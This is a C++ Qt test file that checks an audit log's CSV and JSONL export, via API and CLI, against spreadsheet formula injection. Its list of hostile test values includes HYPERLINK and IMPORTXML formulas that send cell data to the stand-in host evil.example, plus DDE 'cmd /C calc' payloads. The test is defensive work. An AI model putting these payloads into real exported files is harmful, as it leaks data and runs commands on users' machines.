// CSV (formula) injection through the real export path: hostile text, as it could arrive in Zoho field
// values, ids and error reasons, is written into a real AuditLog on a real SQLite file, exported with a
// filter by AuditLog::exportTo and by `ml-connector-cli audit export`, and parsed back. No cell of the
// CSV may start a formula (=, +, -, @, tab, carriage return) in any column, the original text must be
// recoverable from every cell (drop the one apostrophe the export put in front), and JSONL must carry
// the values unchanged.
#include "CliHarness.h"

#include "audit/AuditLog.h"
#include "storage/Database.h"

#include <QBuffer>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSet>
#include <QTest>

#include <functional>

using namespace Core;

namespace {

constexpr qint64 kTs = 1767225600000; // 2026-01-01T00:00:00Z

// What a spreadsheet would run, and text that looks harmless but must survive quoting.
const QStringList& hostileValues()
{
    static const QStringList values{
        QStringLiteral("=1+1"),
        QStringLiteral("+1+1"),
        QStringLiteral("-1+1"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("+\"=1\",\"=2\"\r\n=3"),
        QStringLiteral("@"),
        QStringLiteral("-"),
        QStringLiteral("=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"),
        QStringLiteral("=\u00e9t\u00e9,\u65e5\u672c"),
        QStringLiteral("DDE(\"cmd\";\"/C calc\";\"A0\")"), // harmless first character, kept as is
    };
    return values;
}

// The text columns of an audit event, by CSV column name; direction and outcome are checked enums.
struct TextColumn
{
    QString name;
    std::function<QString&(AuditEvent&)> field;
};

const QList<TextColumn>& textColumns()
{
    static const QList<TextColumn> columns{
        {QStringLiteral("source"), [](AuditEvent& e) -> QString& { return e.source; }},
        {QStringLiteral("module"), [](AuditEvent& e) -> QString& { return e.module; }},
        {QStringLiteral("zoho_id"), [](AuditEvent& e) -> QString& { return e.zohoId; }},
        {QStringLiteral("party_number"), [](AuditEvent& e) -> QString& { return e.partyNumber; }},
        {QStringLiteral("action"), [](AuditEvent& e) -> QString& { return e.action; }},
        {QStringLiteral("reason_class"), [](AuditEvent& e) -> QString& { return e.reasonClass; }},
        {QStringLiteral("reason"), [](AuditEvent& e) -> QString& { return e.reason; }},
        {QStringLiteral("request"), [](AuditEvent& e) -> QString& { return e.request; }},
        {QStringLiteral("response"), [](AuditEvent& e) -> QString& { return e.response; }},
    };
    return columns;
}

bool isTrigger(QChar c)
{
    return c == QLatin1Char('=') || c == QLatin1Char('+') || c == QLatin1Char('-') || c == QLatin1Char('@') ||
           c == QLatin1Char('\t') || c == QLatin1Char('\r');
}

// What a reader gets back: the export's one leading apostrophe before a trigger character removed.
QString recovered(const QString& cell)
{
    if (cell.size() >= 2 && cell.at(0) == QLatin1Char('\'') && isTrigger(cell.at(1)))
        return cell.mid(1);
    return cell;
}

QString shown(const QString& text)
{
    QString s = text;
    return s.replace(QLatin1Char('\t'), QStringLiteral("\\t"))
        .replace(QLatin1Char('\r'), QStringLiteral("\\r"))
        .replace(QLatin1Char('\n'), QStringLiteral("\\n"));
}

} // namespace

class tst_CsvInjection : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QVERIFY(m_cli.valid());
        auto db = Database::open(m_cli.databasePath());
        QVERIFY2(db.ok(), db.ok() ? "" : qPrintable(db.error().message));
        AuditLog audit(*db.value());
        const QStringList& values = hostileValues();
        // Event k holds value (k + column) in each text column, so every column gets every value.
        for (int k = 0; k < values.size(); ++k) {
            AuditEvent e;
            e.tsMs = kTs + k;
            e.direction = QStringLiteral("to_oracle");
            e.outcome = QStringLiteral("failed");
            e.httpStatus = 400;
            for (int c = 0; c < textColumns().size(); ++c)
                textColumns().at(c).field(e) = values.at((k + c) % values.size());
            const auto id = audit.append(e);
            QVERIFY2(id.ok(), id.ok() ? "" : qPrintable(id.error().message));
            e.id = id.value();
            m_expected.insert(e.id, e);
        }
        // Not matched by the filter: must not be exported.
        for (int k = 0; k < 3; ++k) {
            AuditEvent ok;
            ok.tsMs = kTs + 1000 + k;
            ok.source = QStringLiteral("=not-exported");
            ok.zohoId = QStringLiteral("5725767000003000064");
            ok.direction = QStringLiteral("to_oracle");
            ok.action = QStringLiteral("update");
            ok.outcome = QStringLiteral("ok");
            QVERIFY(audit.append(ok).ok());
        }
        // Stored as given (no escaping at write time): the export is where it must happen.
        AuditFilter all;
        all.limit = 0;
        const auto stored = audit.query(all);
        QVERIFY(stored.ok());
        QCOMPARE(stored.value().size(), int(m_expected.size()) + 3);
    }

    void csvExportHasNoFormulaAndKeepsTheText()
    {
        auto db = Database::open(m_cli.databasePath());
        QVERIFY(db.ok());
        AuditLog audit(*db.value());
        AuditFilter filter;
        filter.outcomes = {QStringLiteral("failed")};
        QBuffer buffer;
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        const auto rows = audit.exportTo(buffer, AuditLog::Format::Csv, filter);
        QVERIFY2(rows.ok(), rows.ok() ? "" : qPrintable(rows.error().message));
        QCOMPARE(rows.value(), qint64(m_expected.size()));
        checkCsv(QString::fromUtf8(buffer.data()));
    }

    void jsonlExportIsVerbatim()
    {
        auto db = Database::open(m_cli.databasePath());
        QVERIFY(db.ok());
        AuditLog audit(*db.value());
        AuditFilter filter;
        filter.outcomes = {QStringLiteral("failed")};
        QBuffer buffer;
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        const auto rows = audit.exportTo(buffer, AuditLog::Format::Jsonl, filter);
        QVERIFY(rows.ok());
        QCOMPARE(rows.value(), qint64(m_expected.size()));
        checkJsonl(buffer.data());
    }

    void cliExportIsSafeToo()
    {
        const QString csv = QDir(m_cli.profile()).filePath(QStringLiteral("audit.csv"));
        const QString jsonl = QDir(m_cli.profile()).filePath(QStringLiteral("audit.jsonl"));
        for (const auto& [format, file] :
             {std::make_pair(QStringLiteral("csv"), csv), std::make_pair(QStringLiteral("jsonl"), jsonl)}) {
            const CliTest::Run r =
                m_cli.run({QStringLiteral("audit"), QStringLiteral("export"), QStringLiteral("--format"), format,
                           QStringLiteral("--output"), file, QStringLiteral("--status"), QStringLiteral("failed")});
            QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
            QVERIFY2(r.err.contains(QStringLiteral("exported %1 events").arg(m_expected.size())), qPrintable(r.all()));
        }
        QFile csvFile(csv);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        checkCsv(QString::fromUtf8(csvFile.readAll()));
        QFile jsonlFile(jsonl);
        QVERIFY(jsonlFile.open(QIODevice::ReadOnly));
        checkJsonl(jsonlFile.readAll());
    }

    void theCheckItselfCatchesAFormula()
    {
        // Negative self-check: a raw, unescaped value is seen as a formula, and the parser splits
        // cells as a spreadsheet would.
        const QList<QStringList> rows =
            CliTest::parseCsv(QStringLiteral("a,b\r\n=1+1,\"x,\"\"y\"\"\"\r\n'=1,\t@x\r\n"));
        QCOMPARE(rows.size(), 3);
        QCOMPARE(rows.at(1), (QStringList{QStringLiteral("=1+1"), QStringLiteral("x,\"y\"")}));
        QVERIFY(CliTest::isFormulaCell(rows.at(1).at(0)));
        QVERIFY(!CliTest::isFormulaCell(rows.at(2).at(0)));
        QVERIFY(CliTest::isFormulaCell(rows.at(2).at(1)));
        for (const QString& v : hostileValues().mid(0, 6))
            QVERIFY2(CliTest::isFormulaCell(v), qPrintable(shown(v)));
        for (const QString& v : hostileValues())
            QVERIFY2(!CliTest::isFormulaCell(AuditLog::csvCell(v)), qPrintable(shown(v)));
    }

private:
    void checkCsv(const QString& text)
    {
        const QList<QStringList> rows = CliTest::parseCsv(text);
        const QStringList header = AuditLog::columnNames();
        QCOMPARE(rows.size(), int(m_expected.size()) + 1);
        QCOMPARE(rows.first(), header);
        QSet<qint64> seen;
        for (int r = 0; r < rows.size(); ++r) {
            const QStringList& row = rows.at(r);
            QCOMPARE(row.size(), header.size());
            for (int c = 0; c < row.size(); ++c)
                QVERIFY2(
                    !CliTest::isFormulaCell(row.at(c)),
                    qPrintable(QStringLiteral("row %1, column %2: %3").arg(r).arg(header.at(c), shown(row.at(c)))));
            if (r == 0)
                continue;
            const qint64 id = row.at(0).toLongLong();
            QVERIFY2(m_expected.contains(id), qPrintable(row.join(QLatin1Char('|'))));
            seen.insert(id);
            AuditEvent expected = m_expected.value(id);
            for (const TextColumn& column : textColumns()) {
                const QString cell = row.at(header.indexOf(column.name));
                QVERIFY2(recovered(cell) == column.field(expected),
                         qPrintable(QStringLiteral("%1 of event %2: %3 is not %4")
                                        .arg(column.name)
                                        .arg(id)
                                        .arg(shown(cell), shown(column.field(expected)))));
                // Escaped exactly when it had to be.
                QCOMPARE(cell != column.field(expected), isTrigger(column.field(expected).at(0)));
            }
            QCOMPARE(row.at(header.indexOf(QStringLiteral("outcome"))), QStringLiteral("failed"));
            QCOMPARE(row.at(header.indexOf(QStringLiteral("http_status"))), QStringLiteral("400"));
        }
        QCOMPARE(seen.size(), m_expected.size());
    }

    void checkJsonl(const QByteArray& bytes)
    {
        const QList<QByteArray> lines = bytes.trimmed().split('\n');
        QCOMPARE(lines.size(), int(m_expected.size()));
        for (const QByteArray& line : lines) {
            QJsonParseError error;
            const QJsonObject o = QJsonDocument::fromJson(line, &error).object();
            QVERIFY2(error.error == QJsonParseError::NoError, line.constData());
            const qint64 id = o.value(QStringLiteral("id")).toInteger();
            QVERIFY(m_expected.contains(id));
            AuditEvent expected = m_expected.value(id);
            for (const TextColumn& column : textColumns())
                QVERIFY2(o.value(column.name).toString() == column.field(expected),
                         qPrintable(QStringLiteral("%1 of event %2 changed: %3")
                                        .arg(column.name)
                                        .arg(id)
                                        .arg(shown(o.value(column.name).toString()))));
        }
    }

    CliTest::Cli m_cli;
    QMap<qint64, AuditEvent> m_expected;
};

QTEST_GUILESS_MAIN(tst_CsvInjection)
#include "tst_CsvInjection.moc"
